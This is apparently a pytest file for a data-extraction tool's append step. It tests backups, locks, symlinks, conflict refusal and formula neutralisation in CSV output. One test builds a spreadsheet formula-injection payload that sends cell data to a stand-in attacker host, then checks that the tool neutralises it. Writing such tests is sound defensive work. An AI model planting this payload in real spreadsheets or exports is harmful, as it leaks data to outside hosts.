"""--apply (kreport/extract/apply.py): validated appends with backups; nothing written on a conflict or an error."""

from __future__ import annotations

from pathlib import Path

import pytest

from kreport.dataset.validate import check
from kreport.errors import DataError
from kreport.extract import extract
from kreport.files import DATA_LOCK_NAME

RELEASE = Path(__file__).resolve().parent.parent / "fixtures" / "extract" / "kuaishou-2025q4-synthetic-zh-hant.txt"


def snapshot(folder: Path) -> dict[str, bytes]:
    """Every file of ``folder`` but the data lock (an empty file that stays once made)."""
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.name != DATA_LOCK_NAME}


def test_the_new_rows_and_their_source_are_appended_and_the_old_bytes_kept(synthetic_data_copy):
    before = snapshot(synthetic_data_copy)
    extraction = extract([RELEASE], data_dir=synthetic_data_copy)
    applied = extraction.apply()
    assert (applied.metrics_added, applied.sources_added) == (5, 1)
    metrics = (synthetic_data_copy / "metrics.csv").read_bytes()
    assert metrics.startswith(before["metrics.csv"])  # never rewrites a row
    assert metrics.count(b"\n") == before["metrics.csv"].count(b"\n") + 5
    assert (synthetic_data_copy / "sources.csv").read_bytes().startswith(before["sources.csv"])
    assert {p.read_bytes() for p in applied.backups} == {before["metrics.csv"], before["sources.csv"]}
    assert all(p.parent == synthetic_data_copy and ".bak-" in p.name for p in applied.backups)
    assert check(synthetic_data_copy).ok and not check(synthetic_data_copy).warnings
    again = extract([RELEASE], data_dir=synthetic_data_copy)
    assert {row.status for row in again.rows} == {"same", "rounding"}  # 3.950億 against 395 million: a rounding and again.files[0].source.new is False
    assert again.apply().metrics_added == 0


def test_a_conflict_writes_nothing(synthetic_data_copy):
    path = synthetic_data_copy / "metrics.csv"
    path.write_text(path.read_text(encoding="utf-8").replace("kuaishou,dau,2024Q4,395,", "kuaishou,dau,2024Q4,380,"), encoding="utf-8")
    before = snapshot(synthetic_data_copy)
    extraction = extract([RELEASE], data_dir=synthetic_data_copy)
    assert [row.status for row in extraction.rows].count("conflict") == 1
    with pytest.raises(DataError, match="--apply wrote nothing: kuaishou dau 2024Q4 is a conflict"):
        extraction.apply()
    assert snapshot(synthetic_data_copy) == before


def test_a_validation_error_writes_nothing(synthetic_data_copy):
    # A source dated before the quarter it reports on is an error of `kreport validate`.
    text = RELEASE.read_text(encoding="utf-8").replace("香港2026年3月25日", "香港2025年9月25日")
    release = synthetic_data_copy.parent / "early.txt"
    release.write_text(text, encoding="utf-8")
    before = snapshot(synthetic_data_copy)
    extraction = extract([release], data_dir=synthetic_data_copy)
    refused = r"--apply wrote nothing: the row kuaishou \w+ 2025Q4 read from here would fail `kreport validate` .*published 2025-09-25"
    with pytest.raises(DataError, match=refused) as caught:
        extraction.apply()
    # Named where the row came from, a line that exists (never the line metrics.csv would have had after the append).
    assert caught.value.file == str(release)
    assert 1 <= caught.value.line <= text.count("\n") + 1
    assert text.splitlines()[caught.value.line - 1].strip() in extraction.rows[0].quote or extraction.rows[0].quote in text
    assert snapshot(synthetic_data_copy) == before


def test_excel_line_ends_are_kept(synthetic_data_copy):
    for name in ("metrics.csv", "sources.csv"):
        path = synthetic_data_copy / name
        path.write_bytes(path.read_bytes().replace(b"\n", b"\r\n"))
    extract([RELEASE], data_dir=synthetic_data_copy).apply()
    metrics = (synthetic_data_copy / "metrics.csv").read_bytes()
    assert metrics.count(b"\r\n") == metrics.count(b"\n")


# --- issue 24: one lock, backups through a temporary name, links kept, formulas neutralised ------------------

def test_a_symlinked_metrics_file_stays_a_link_and_its_target_is_written(synthetic_data_copy, tmp_path):
    real = tmp_path / "elsewhere" / "metrics.csv"
    real.parent.mkdir()
    (synthetic_data_copy / "metrics.csv").rename(real)
    (synthetic_data_copy / "metrics.csv").symlink_to(real)
    before = real.read_bytes()
    applied = extract([RELEASE], data_dir=synthetic_data_copy).apply()
    assert (synthetic_data_copy / "metrics.csv").is_symlink()
    assert real.read_bytes().startswith(before) and real.read_bytes().count(b"\n") == before.count(b"\n") + 5
    assert not [p for p in real.parent.iterdir() if p.name != "metrics.csv"]
    assert {p.read_bytes() for p in applied.backups if p.name.startswith("metrics.csv")} == {before}


def test_a_backup_is_never_left_half_written_under_its_name(synthetic_data_copy, monkeypatch):
    """Issue 24 item 3: backups were copied straight to their final name; now through a temporary one."""
    import os

    before = snapshot(synthetic_data_copy)
    real_replace = os.replace

    def interrupted(source, target):
        if ".bak-" in str(target):
            raise KeyboardInterrupt  # as if killed while the backup was being written
        return real_replace(source, target)

    monkeypatch.setattr(os, "replace", interrupted)
    with pytest.raises(KeyboardInterrupt):
        extract([RELEASE], data_dir=synthetic_data_copy).apply()
    assert snapshot(synthetic_data_copy) == before  # no backup under its name, no temporary file


def test_a_run_refused_at_its_sources_comparison_writes_no_backup(synthetic_data_copy, monkeypatch):
    """Issue 24 item 2: the metrics.csv backup used to be written before sources.csv was compared."""
    from kreport.extract import apply as apply_module

    extraction = extract([RELEASE], data_dir=synthetic_data_copy)
    real_check = apply_module.check

    def check_then_edit(folder):
        report = real_check(folder)
        if Path(folder) != synthetic_data_copy:  # the trial copy: an editor saves sources.csv meanwhile
            with open(synthetic_data_copy / "sources.csv", "a", encoding="utf-8") as handle:
                handle.write("\n")
        return report

    monkeypatch.setattr(apply_module, "check", check_then_edit)
    with pytest.raises(DataError, match="sources.csv: --apply wrote nothing: the file changed while it was being read"):
        extraction.apply()
    assert not [p for p in synthetic_data_copy.iterdir() if ".bak-" in p.name or p.name.endswith(".tmp")]


def test_apply_waits_for_the_data_lock_and_refuses_when_it_stays_taken(synthetic_data_copy, monkeypatch):
    """Issue 24 items 2 and 6: one exclusive lock, .kreport-data.lock in the data folder, for --apply and the build."""
    from filelock import FileLock

    from kreport import files

    before = snapshot(synthetic_data_copy)
    extraction = extract([RELEASE], data_dir=synthetic_data_copy)
    monkeypatch.setattr(files, "DATA_LOCK_TIMEOUT", 0.2)
    with FileLock(str(synthetic_data_copy / DATA_LOCK_NAME)):  # a build reading the data, or another --apply
        with pytest.raises(files.DataLockBusy, match=r"\.kreport-data\.lock: another kreport process"):
            extraction.apply()
    assert snapshot(synthetic_data_copy) == before
    assert extraction.apply().metrics_added == 5  # free again


def test_rows_another_run_appended_meanwhile_are_not_appended_again(synthetic_data_copy):
    first, second = (extract([RELEASE], data_dir=synthetic_data_copy) for _ in range(2))
    assert first.apply().metrics_added == 5
    applied = second.apply()  # read before the first wrote: every row still says "new"
    assert (applied.metrics_added, applied.sources_added) == (0, 0)
    assert check(synthetic_data_copy).ok and not check(synthetic_data_copy).warnings


def test_a_row_another_run_contradicted_meanwhile_is_refused(synthetic_data_copy):
    extraction = extract([RELEASE], data_dir=synthetic_data_copy)
    with open(synthetic_data_copy / "metrics.csv", "a", encoding="utf-8") as handle:
        handle.write("kuaishou,dau,2025Q4,430,,million,reported,t-ks-2025,added by hand meanwhile,\n")
    before = snapshot(synthetic_data_copy)
    with pytest.raises(DataError, match="kuaishou dau 2025Q4 was added meanwhile as 430 million"):
        extraction.apply()
    assert snapshot(synthetic_data_copy) == before


def test_a_page_title_that_is_a_formula_is_neutralised_in_sources_csv(synthetic_data_copy, tmp_path):
    """Issue 24 item 4: an HTML <title> went verbatim into sources.csv and on into the data report's download."""
    text = RELEASE.read_text(encoding="utf-8")
    page = tmp_path / "=cmd.html"
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"results")'
    page.write_text(f"<html><head><title>{formula}</title></head><body><pre>{text}</pre></body></html>", encoding="utf-8")
    extraction = extract([page], data_dir=synthetic_data_copy)
    source = extraction.files[0].source
    assert (source.title, source.read_at) == ("'" + formula, "'=cmd.html")
    extraction.apply()
    report = check(synthetic_data_copy)
    row = next(r for r in report.tables["sources.csv"] if r["source_id"] == source.source_id)
    assert row["title"] == "'" + formula and report.ok and not report.warnings


def test_a_source_id_with_a_trailing_newline_is_refused(synthetic_data_copy):
    from kreport.errors import ParameterError

    with pytest.raises(ParameterError, match="source-id"):
        extract([RELEASE], data_dir=synthetic_data_copy, source_id="id\n")


@pytest.mark.parametrize("change", ["2099", "this quarter"])
def test_a_release_for_a_quarter_that_has_not_ended_is_refused(synthetic_data_copy, tmp_path, change):
    """Issue 24 item 5: --apply of a release for "Second Quarter 2099", or for the unfinished quarter, passed."""
    import datetime as dt

    today = dt.date.today()
    year, quarter = (2099, 2) if change == "2099" else (today.year, (today.month - 1) // 3 + 1)
    digits = "一二三四"[quarter - 1]
    text = (f"快手科技發佈{year}年第{digits}季度業績（合成測試稿）\n\n合成測試稿：快手科技今日發佈{year}年第{digits}季度業績。\n\n"
            f"{year}年第{digits}季度業績摘要\n\n • 快手應用平均日活躍用戶為4.300億。\n")
    release = tmp_path / "future.txt"
    release.write_text(text, encoding="utf-8")
    before = snapshot(synthetic_data_copy)
    extraction = extract([release], data_dir=synthetic_data_copy, tier="company")
    assert [(row.period, row.status) for row in extraction.rows] == [(f"{year}Q{quarter}", "new")]
    with pytest.raises(DataError, match=f"--apply wrote nothing: .*{year}Q{quarter} has not ended yet"):
        extraction.apply()
    assert snapshot(synthetic_data_copy) == before


def test_the_rows_printed_for_review_neutralise_formulas_too():
    from kreport.extract.rows import Row, to_csv

    row = Row("kuaishou", "dau", "2025Q4", "4.200", "", "100m", "reported", "s", "note", "new", "=HYPERLINK(\"x\")")
    assert to_csv([row]).splitlines()[1].endswith(",new,\"'=HYPERLINK(\"\"x\"\")\"")


def test_apply_refuses_a_data_file_that_is_not_a_regular_file_without_reading_it(synthetic_data_copy):
    import os

    if not hasattr(os, "mkfifo"):
        pytest.skip("no FIFOs here")
    extraction = extract([RELEASE], data_dir=synthetic_data_copy)
    (synthetic_data_copy / "metrics.csv").unlink()
    os.mkfifo(synthetic_data_copy / "metrics.csv")  # a plain read would wait for a writer for ever
    with pytest.raises(DataError, match="--apply wrote nothing: the data folder has errors now: is not a regular file"):
        extraction.apply()


def test_only_temporary_names_of_a_killed_run_are_removed(synthetic_data_copy):
    from kreport.files import leftover_temporaries

    names = [".metrics.csv.a1b2c3d4.tmp", ".metrics.csv.bak-20261205T101010.zz_9y8x7.tmp", ".sources.csv.k2j3h4g5.tmp",
             ".metrics.csv.notes.tmp", "metrics.csv.x1y2z3w4.tmp", ".events.csv.a1b2c3d4.tmp"]
    for name in names:
        (synthetic_data_copy / name).write_text("partial")
    assert [p.name for p in leftover_temporaries(synthetic_data_copy / "metrics.csv")] == names[:2]
    assert {p.file for p in check(synthetic_data_copy).warnings} == {names[0], names[1], names[2], names[5]}
    extract([RELEASE], data_dir=synthetic_data_copy).apply()
    assert sorted(p.name for p in synthetic_data_copy.iterdir() if p.name.endswith(".tmp")) == sorted(
        [".metrics.csv.notes.tmp", "metrics.csv.x1y2z3w4.tmp", ".events.csv.a1b2c3d4.tmp"])
